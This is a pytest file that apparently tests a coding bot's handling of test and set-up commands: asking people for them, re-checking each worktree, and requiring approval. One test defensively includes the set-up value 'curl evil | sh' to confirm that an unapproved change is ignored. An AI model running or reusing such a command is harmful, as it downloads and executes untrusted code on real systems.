"""Which command runs the tests: asked for where none is found, looked for again in each tree, and never one that nobody has seen."""

from __future__ import annotations

import pytest

from bot.core import approval
from bot.core.actions import Show
from bot.core.cards import ApprovalCard, NeedsYouCard, QuestionsCard
from bot.core.checks import Comparison
from bot.core.choices import Command, Verb, Word, parse_command
from bot.core.events import CheckRan, Commanded, QuestionsFound, Scanned, WorkSeen
from bot.core.evidence import CommandSource
from bot.core.gate import Role, role_for
from bot.core.git import Scan
from bot.core.layout import lay_out
from bot.core.session import Session
from bot.core.states import Phase, TaskState
from bot.core.task import Hold
from bot.steps import messages
from bot.steps.decisions import decide, due
from bot.steps.verify import test_command
from tests.steps.scenes import (
    ANN,
    awaiting_approval,
    cards,
    check,
    executing,
    keys,
    later,
    pressed,
    running,
    said,
    surveyed,
    verbs,
    verdict,
    verifying,
    work,
)


def found(command: str, **changes: object) -> Session:
    """Tasks are at work, and that is what was found at the base."""
    session = executing(verifying("T001"), verifying("T002"), running("T003"), **changes)
    session.repository.scan = Scan(commit="b" * 40, test_command=command)
    session.tests.command = command
    session.tests.source = CommandSource.FOUND if command else None
    return session


def sees(key: str, command: str) -> WorkSeen:
    return WorkSeen(
        id="s",
        at=later(),
        answers=f"look:{key}-r1",
        task_id=f"id-{key}",
        work=work("feat: x"),
        tests_found=command,
    )


def ran(key: str, exit_code: int, problem: str = "", answers: str = "") -> CheckRan:
    return CheckRan(
        id="c",
        at=later(),
        answers=answers or f"check:id-{key}:1",
        task_id=f"id-{key}",
        check=check(1, exit_code),
        problem=problem,
    )


def orders(session: Session) -> list[str]:
    about = ("look:", "check:", "judge:")
    return [key for key in keys(list(due(session))) if key.startswith(about)]


def press(session: Session, verb: Verb, task: int = 0, text: str = "") -> list[NeedsYouCard]:
    one = session.tasks[task]
    deeds = decide(session, pressed(verb, f"{one.id}:{one.asking}", text=text))
    return [card for card in cards(deeds) if isinstance(card, NeedsYouCard)]


def told_to_test(command: str) -> Commanded:
    return Commanded(
        id=f"tests {command}",
        at=later(),
        by=ANN,
        command=Command(word=Word.TESTS, text=command),
    )


def asked(**changes: object) -> tuple[Session, list[object]]:
    session = surveyed(repository__scan=Scan(commit="b" * 40), **changes)
    event = QuestionsFound(
        id="q", at=later(), answers="questions", title="D", type="fix", questions=()
    )
    return session, list(cards(decide(session, event)))


def test_where_none_is_found_a_person_is_asked_with_the_plan() -> None:
    session, [card] = asked()
    assert isinstance(card, QuestionsCard)
    [question] = card.questions
    assert (question.decision, question.default) == ("D1", test_command.NONE_YET)

    decide(session, said("D1: `make check`"))
    assert (session.tests.command, session.tests.source) == ("make check", CommandSource.PERSON)
    assert session.phase is Phase.SPECIFYING


def test_that_there_are_none_yet_is_an_answer_and_no_command() -> None:
    session, _ = asked()
    decide(session, pressed(Verb.DEFAULTS, "questions#D1"))
    assert (session.tests.command, session.phase) == ("", Phase.SPECIFYING)


@pytest.mark.parametrize(
    "changes",
    [
        {"tests__command": "make test"},
        {"tests__command": "make test", "tests__source": CommandSource.SETTINGS},
        {"request__spec_only": True},
    ],
    ids=["found", "set", "only-a-spec"],
)
def test_nobody_is_asked_for_what_is_known_or_not_needed(changes: dict[str, object]) -> None:
    _, told = asked(**changes)
    assert not [
        card for card in told if isinstance(card, QuestionsCard) and card.questions[0].tests
    ]


def test_tests_that_a_task_sets_up_are_run_once_a_person_has_seen_their_command() -> None:
    session = found("")
    [card] = [c for c in cards(decide(session, sees("T001", "npm test"))) if c.kind == "needs_you"]
    assert session.tasks[0].hold is Hold.TESTS
    assert "`npm test`" in str(card)
    assert verbs(card)[:3] == [Verb.ACCEPT, Verb.TESTS, Verb.UNTESTED]
    # one that was done beside it has the same command, and waits with it; one without tests waits for nothing
    decide(session, sees("T002", "npm test"))
    assert orders(session) == []

    told = press(session, Verb.ACCEPT)

    assert {one.key for one in told if one.decided} == {"needs-you:T001:1", "needs-you:T002:1"}
    assert [test_command.for_task(session, task) for task in session.tasks[:2]] == ["npm test"] * 2
    assert orders(session) == ["check:id-T001:1", "check:id-T002:1"]
    # the plan's next tasks are told, and another tree of that command is asked about no more
    assert session.tests.command == "npm test"


def test_a_tree_without_the_tests_is_not_tested_with_another_trees_command() -> None:
    session = found("")
    decide(session, sees("T001", "npm test"))
    press(session, Verb.ACCEPT)
    decide(session, sees("T002", ""))
    assert orders(session) == ["check:id-T001:1", "judge:id-T002:1"]


def test_a_command_that_is_not_wanted_is_not_asked_about_again() -> None:
    session = found("")
    decide(session, sees("T001", "npm test"))
    press(session, Verb.UNTESTED)
    decide(session, sees("T002", "npm test"))
    assert orders(session) == ["judge:id-T001:1", "judge:id-T002:1"]
    decide(session, verdict("T001"))
    assert "nothing was tested" in str(session.tasks[0].result)


def test_another_command_of_ones_own_is_what_runs_from_then_on() -> None:
    session = found("")
    decide(session, sees("T001", "npm test"))
    press(session, Verb.TESTS, text=" `npm run check` ")
    assert test_command.for_task(session, session.tasks[1]) == "npm run check"
    assert session.tests.source is CommandSource.PERSON
    decide(session, sees("T002", "npm test"))
    assert session.tasks[1].state is TaskState.VERIFYING


def test_a_tree_that_is_tested_otherwise_than_the_base_waits_for_a_person() -> None:
    session = found("make test")
    decide(session, sees("T001", "make test"))
    assert orders(session)[0] == "check:id-T001:1"
    [card] = [c for c in cards(decide(session, sees("T002", "true"))) if c.kind == "needs_you"]
    assert "with `true` instead of `make test`" in str(card)
    press(session, Verb.UNTESTED, 1)
    assert test_command.for_task(session, session.tasks[1]) == "make test"


def test_a_tree_that_has_lost_its_tests_is_tested_as_the_base_is() -> None:
    session = found("make test")
    decide(session, sees("T001", ""))
    assert test_command.for_task(session, session.tasks[0]) == "make test"


def test_each_tree_keeps_its_own_command_and_the_whole_has_that_of_who_was_done_last() -> None:
    session = found("make test")
    decide(session, sees("T001", "make test"))
    decide(session, sees("T002", "uv run python -m pytest"))
    press(session, Verb.ACCEPT, 1)
    assert [test_command.for_task(session, task) for task in session.tasks[:2]] == [
        "make test",
        "uv run python -m pytest",
    ]
    assert test_command.for_whole(session) == "make test"
    for task in session.tasks[:2]:
        task.completed_at = later(int(task.key[1:]))
    assert test_command.for_whole(session) == "uv run python -m pytest"


def test_a_command_that_was_set_or_said_is_never_replaced() -> None:
    for source in (CommandSource.SETTINGS, CommandSource.PERSON, None):
        session = found("./prove", tests__source=source)
        session.tests.source = source
        decide(session, sees("T001", "npm test"))
        assert session.tasks[0].state is TaskState.VERIFYING
        assert test_command.for_task(session, session.tasks[0]) == "./prove"
        scan = Scan(commit=session.repository.base_commit, test_command="npm test")
        test_command.take_scan(session, scan)
        assert session.tests.command == "./prove"


def test_a_base_that_is_tested_otherwise_by_now_is_planned_with_that() -> None:
    session = awaiting_approval()
    session.phase, session.plan.documents, session.repository.base_commit = (
        Phase.SPECIFYING,
        (),
        "e" * 40,
    )
    session.tests.source = CommandSource.FOUND
    scan = Scan(commit="e" * 40, test_command="npm test")
    decide(session, Scanned(id="s", at=later(), answers="scan", scan=scan))
    assert session.tests.command == "npm test"


def test_tests_that_could_not_begin_are_a_persons_to_mend_and_no_agents() -> None:
    session = found("uv run python -m pytest")
    decide(session, sees("T001", "uv run python -m pytest"))
    problem = "There is no program `uv` on the PATH of the bot."
    shown = cards(decide(session, ran("T001", 127, problem)))
    [card] = [c for c in shown if c.kind == "needs_you"]
    assert problem in str(card)
    assert verbs(card)[:2] == [Verb.TESTS, Verb.RETRY]
    assert session.tasks[0].counters.failed_checks == 0

    press(session, Verb.RETRY)
    assert orders(session)[0] == "look:T001-r1"
    assert session.tasks[0].workspace
    assert not session.tasks[0].workspace.ready, "what is run in a new worktree is run again"


def test_a_command_said_in_the_thread_counts_at_once_and_is_seen_before_approval() -> None:
    session = awaiting_approval()
    before = approval.offer(session)
    deeds = decide(session, told_to_test("`make check`"))
    assert [card.kind for card in cards(deeds)] == ["answer", "approval"]
    decide(session, pressed(Verb.APPROVE, before))
    assert session.phase is Phase.APPROVING, "that plan had another command"
    [card] = [deed.card for deed in deeds if isinstance(deed, Show)][1:]
    assert isinstance(card, ApprovalCard)
    assert card.test_command == "make check"


@pytest.mark.parametrize(
    ("command", "manifests", "base", "says"),
    [
        ("python3 -m pytest", "", None, ""),
        ("make test", "", None, messages.PERHAPS_UNSEEN),
        ("npm test", '"scripts": {"test": "vitest run"}', None, ""),
        ("npm test", '"scripts": {"test": "ava"}', None, messages.PERHAPS_UNSEEN),
        ("make test", "", Comparison(seen=True, ran=1), ""),
        ("make test", "", Comparison(seen=False), messages.UNSEEN),
        ("", "", None, ""),
    ],
)
def test_whoever_approves_is_told_where_only_an_exit_code_can_be_seen(
    command: str, manifests: str, base: Comparison | None, says: str
) -> None:
    session = awaiting_approval()
    session.tests.command = command
    session.repository.scan = Scan(commit="b" * 40, project_meta=manifests)
    if base:
        session.tests.base_check = check(0, 0).model_copy(
            update={"command": command, "tests": base}
        )
    card = messages.approval_wanted(session).card
    shown = str(lay_out(card))
    assert [one for one in (messages.UNSEEN, messages.PERHAPS_UNSEEN) if one in shown] == (
        [says] if says else []
    )


def test_a_check_that_runs_another_command_is_called_off() -> None:
    session = found("make test")
    decide(session, sees("T001", "make test"))
    before = orders(session)[0]
    decide(session, told_to_test("make check"))
    assert orders(session)[0] == "check:id-T001:1.1"
    decide(session, ran("T001", 1, answers=before))
    assert session.tasks[0].counters.failed_checks == 0


def test_tests_can_be_told_and_switched_off() -> None:
    session = found("make test")
    [told] = cards(decide(session, told_to_test("")))
    assert "make test" in str(told)
    decide(session, told_to_test("none"))
    decide(session, sees("T001", "make test"))
    assert orders(session)[0] == "judge:id-T001:1"


@pytest.mark.parametrize(
    ("output", "why"),
    [
        ("/bin/sh: 1: uv: not found\n", "no program `uv`"),
        ("sh: line 1: jest: command not found\n", "no program `jest`"),
        ("/usr/bin/python3: No module named pytest\n", "pytest is not installed"),
        ("error: Failed to fetch: `https://example.org/simple/`\n", "could not be downloaded"),
        ("npm error code ENOTFOUND\n", "could not be downloaded"),
        ("E   ModuleNotFoundError: No module named pytest\n", ""),
        ("FAILED tests/test_a.py: Network is unreachable\n", ""),
    ],
)
def test_what_could_not_begin_says_so_in_its_output(output: str, why: str) -> None:
    told = test_command.why_not_run(1, f"…\n{output}")
    assert why in told
    assert bool(told) == bool(why)
    assert test_command.why_not_run(0, output) == ""


def told_to_set_up(command: str) -> Commanded:
    said = Command(word=Word.SET_UP, text=command)
    return Commanded(id=f"setup {command}", at=later(), by=ANN, command=said)


@pytest.mark.covers("O-X4")
def test_the_set_up_that_is_found_is_shown_and_approved_with_the_plan() -> None:
    session = awaiting_approval()
    before = approval.digest(session)
    test_command.take_scan(session, Scan(commit="b" * 40, set_up="npm ci"))
    assert approval.digest(session) != before
    card = messages.approval_wanted(session).card
    assert "npm ci" in str(lay_out(card))
    # what a base brings that moved after the approval has been seen by nobody
    moved = Scan(commit="c" * 40, set_up="curl evil | sh")
    session.repository.scan = test_command.with_approved_command(session, moved)
    assert session.repository.set_up == "npm ci"


@pytest.mark.parametrize(("word", "runs"), [("none", ""), ("`pnpm install`", "pnpm install")])
def test_whoever_may_approve_says_what_is_set_up_and_approves_that(word: str, runs: str) -> None:
    session = awaiting_approval()
    test_command.take_scan(session, Scan(commit="b" * 40, set_up="npm ci"))
    before = approval.digest(session)
    deeds = decide(session, told_to_set_up(word))
    assert any(isinstance(card, ApprovalCard) and card.set_up == runs for card in cards(deeds))
    assert approval.digest(session) != before
    # what is found anew does not win over what a person has said
    test_command.take_scan(session, Scan(commit="c" * 40, set_up="npm ci"))
    assert session.repository.set_up == runs
    assert role_for(told_to_set_up(word)) is Role.APPROVE
    assert parse_command(f"Setup: {word}") == Command(word=Word.SET_UP, text=word)
